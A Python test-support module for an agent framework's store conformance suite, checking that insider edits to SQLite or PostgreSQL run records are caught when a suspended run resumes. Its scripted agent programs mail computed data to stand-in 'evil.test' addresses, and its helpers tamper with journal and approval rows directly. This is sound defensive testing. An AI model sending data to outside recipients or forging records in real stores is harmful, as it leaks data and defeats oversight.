"""A store is not believed on its own, whatever its engine: the forgery cases of the store conformance suite.

`StoreConformance` (store_conformance.py) runs these against every store, so SQLite and PostgreSQL
both: a suspended run whose store rows are edited as an insider with write access would edit them,
then resumed. Every field a resume reads is walked from the dataclasses (`JournalEntry`, `RunRecord`),
not listed by hand: a field added later is covered, or it must be named in `RECORD_UNSEALED` with the
reason the resume never believes it. `Rows` edits the tables directly, as `UPDATE … SET data = …`.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psycopg
from psycopg.types.json import Jsonb

from proctor import CodeAgent, InboxApprover, Policy, RunStore, ScriptedModel, tool
from proctor.approval.answers import answer
from proctor.errors import StoreForged
from proctor.store import AnswerSeal, PendingApproval

POLICY = {"version": 1, "default": "deny",
          "rules": [{"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"},
                    {"name": "mail", "match": {"tool": "send"}, "decision": "require_approval", "reason": "human"}]}
#: Two reads, then a mail that waits for a human.
PROGRAM = "```py\nn = look(1)\nm = look(2)\nfinal_answer(send('x@evil.test', str(n + m)))\n```"
#: A read, then two mails, each waiting for a human: the run suspends twice in one step.
TWICE = "```py\nn = look(1)\nsend('a@evil.test', str(n))\nfinal_answer(send('b@evil.test', str(n)))\n```"

#: Every real call of the tools below, in order: (tool, args). Tools run in the host (the gate's side).
EFFECTS: list[tuple[str, dict[str, Any]]] = []
#: Called by `send` while it runs (between its journal intent and its outcome): a test keeps the rows then.
DURING: list[Callable[[], None]] = []


@tool(side_effect="read")
def look(x: int) -> int:
    """Read a number.

    Args:
        x: Which one.
    """
    EFFECTS.append(("look", {"x": x}))
    return x * 10


@tool(side_effect="external")
def send(to: str, body: str) -> str:
    """Send a message.

    Args:
        to: Recipient.
        body: Text.
    """
    EFFECTS.append(("send", {"to": to, "body": body}))
    for hook in DURING:
        hook()
    return f"sent {body} to {to}"


TOOLS = [look, send]

KEYS = {"journal": "run_id || ':' || step || ':' || seq", "runs": "run_id", "approvals": "id"}


@dataclass
class Rows:
    """The store's tables as an insider edits them: rows as JSON objects, keyed as `KEYS` says."""

    url: str

    @property
    def _sqlite(self) -> bool:
        return not self.url.startswith(("postgresql://", "postgres://"))

    def _table(self, table: str) -> str:
        return table if self._sqlite else f"proctor_{table}"

    def _run(self, sql: str, params: tuple[Any, ...] = ()) -> list[Any]:
        if self._sqlite:
            with sqlite3.connect(self.url.removeprefix("sqlite:///")) as con:
                return list(con.execute(sql, params))
        with psycopg.connect(self.url, autocommit=True) as conn:
            cur = conn.execute(sql.replace("?", "%s"), params)
            return list(cur.fetchall()) if cur.description else []

    def all(self, table: str) -> list[tuple[str, dict[str, Any]]]:
        rows = self._run(f"SELECT {KEYS[table]}, data FROM {self._table(table)} ORDER BY 1")
        return [(key, json.loads(data) if isinstance(data, str) else dict(data)) for key, data in rows]

    def set(self, table: str, key: str, data: dict[str, Any]) -> None:
        value: Any = json.dumps(data) if self._sqlite else Jsonb(data)
        self._run(f"UPDATE {self._table(table)} SET data = ? WHERE {KEYS[table]} = ?", (value, key))

    def set_status(self, table: str, key: str, status: str) -> None:
        self._run(f"UPDATE {self._table(table)} SET status = ? WHERE {KEYS[table]} = ?", (status, key))

    def delete(self, run_id: str, seq: int) -> None:
        self._run(f"DELETE FROM {self._table('journal')} WHERE run_id = ? AND seq = ?", (run_id, seq))

    def drop(self, table: str, key: str) -> None:
        """Delete the row `key` of `table` (an approval, say)."""
        self._run(f"DELETE FROM {self._table(table)} WHERE {KEYS[table]} = ?", (key,))

    def insert(self, run_id: str, seq: int, data: dict[str, Any]) -> None:
        value: Any = json.dumps(data) if self._sqlite else Jsonb(data)
        self._run(f"INSERT INTO {self._table('journal')} (run_id, step, seq, data) VALUES (?, 1, ?, ?)",
                  (run_id, seq, value))


@dataclass
class Suspended:
    """A run suspended in a store, the audit trail beside it, and what was done to it."""

    store: RunStore
    rows: Rows
    tmp: Path
    run_id: str = ""
    #: The audit trail: a file beside the store (default) or a postgresql://…?log=NAME URL.
    audit: str = ""

    @property
    def log(self) -> str:
        return self.audit or str(self.tmp / "audit.jsonl")

    def agent(self, responses: list[str], audit: Path | None = None) -> CodeAgent:
        return CodeAgent(TOOLS, ScriptedModel(responses), Policy.from_dict(POLICY),
                         approver=InboxApprover(self.store, wait="0s"), audit=str(audit) if audit else self.log,
                         store=self.store, sandbox="process")

    def start(self, program: str = PROGRAM) -> Suspended:
        EFFECTS.clear()
        DURING.clear()
        with self.agent([program]) as agent:
            result = agent.run("mail it", principal="alice")
        assert result.status == "suspended", result.error
        self.run_id = result.run_id
        return self

    def refused(self) -> str:
        """Resume, which must refuse with StoreForged, run nothing and leave the run resumable; the message."""
        before = list(EFFECTS)
        with self.agent([]) as agent:
            try:
                agent.resume(self.run_id)
            except StoreForged as exc:
                message = str(exc)
            else:
                raise AssertionError("the resume was not refused")
        assert self.store.get_run(self.run_id).status in ("suspended", "running")
        assert EFFECTS == before, "a refused resume ran a tool"
        return message

    def resumed(self) -> str:
        with self.agent([]) as agent:
            return agent.resume(self.run_id).status

    @property
    def answers(self) -> AnswerSeal:
        """What the inbox and the CLI seal answers to this run with: its trail's key for answers."""
        return AnswerSeal.of_trail(self.log)

    def approve(self, verdict: str = "approve", reason: str = "") -> PendingApproval:
        """Answer the run's pending approval as the inbox does (checked, sealed, stored) for bob."""
        [pending] = self.store.list_approvals(run_id=self.run_id)
        return answer(self.store, pending.id, approver="bob", address="10.0.0.7", decision=verdict,
                      binding=pending.binding, reason=reason, method="token", groups=(), seal=self.answers)

    def answer_by_hand(self, approval_id: str, answer: Any) -> None:
        """What an insider with write access to the approvals table does: the row set answered, with `answer`."""
        [(_, data)] = [(k, d) for k, d in self.rows.all("approvals") if k == approval_id]
        self.rows.set("approvals", approval_id, {**data, "status": "answered", "answer": answer})
        self.rows.set_status("approvals", approval_id, "answered")

    def approval_refusals(self) -> list[dict[str, Any]]:
        """The trail's `approval_refused` records (a file log beside the store, or the PostgreSQL one)."""
        if self.audit:
            from urllib.parse import parse_qsl, urlencode, urlsplit

            parts = urlsplit(self.audit)
            query = dict(parse_qsl(parts.query))
            log = query.pop("log")
            with psycopg.connect(parts._replace(query=urlencode(query)).geturl(), autocommit=True) as conn:
                lines = [row[0] for row in conn.execute(
                    "SELECT line FROM proctor_audit_records WHERE log = %s ORDER BY seq", (log,))]
        else:
            lines = (self.tmp / "audit.jsonl").read_text().splitlines()
        return [r for r in map(json.loads, lines) if r["kind"] == "approval_refused"]

    def refusals(self) -> list[dict[str, Any]]:
        records = [json.loads(line) for line in (self.tmp / "audit.jsonl").read_text().splitlines()]
        return [r for r in records if r["kind"] == "resume_refused"]

    def verify(self, *extra: str, expect: int) -> subprocess.CompletedProcess[str]:
        """`proctor audit verify LOG --store URL …` in its own process."""
        done = subprocess.run([sys.executable, "-m", "proctor.cli", "audit", "verify", self.log,
                               "--store", self.rows.url, *extra], capture_output=True, text=True, timeout=240)
        assert done.returncode == expect, (done.returncode, done.stdout, done.stderr)
        return done

    def sent(self) -> list[str]:
        return [args["to"] for name, args in EFFECTS if name == "send"]


def suspended(store_url: str, tmp: Path, audit: str = "") -> Iterator[Suspended]:
    store = RunStore.open(store_url)
    try:
        yield Suspended(store, Rows(store_url), tmp, audit=audit)
    finally:
        store.close()


def other(value: Any) -> Any:
    """A value of the same shape that differs from `value`."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, str):
        return value + "x"
    if isinstance(value, dict):
        return {**value, "forged": 1}
    if isinstance(value, list):
        return [*value, {"tool": "send", "args": {}}]
    return {"tool": "send", "args": {}}  # None: e.g. a grant that was never given
